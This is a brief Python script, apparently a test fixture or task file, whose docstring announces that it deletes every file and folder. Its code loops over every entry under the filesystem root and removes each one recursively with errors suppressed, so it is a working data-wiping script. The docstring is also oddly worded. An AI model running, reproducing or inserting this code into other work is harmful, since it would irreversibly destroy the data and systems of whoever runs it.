"""Delete every file and folder, and the one that the program stands in.

Ends: done or exit code 1 or broken
Prints: deleting
"""

import os
import shutil

print("deleting")
for name in os.listdir("/"):
    shutil.rmtree(f"/{name}", ignore_errors=True)
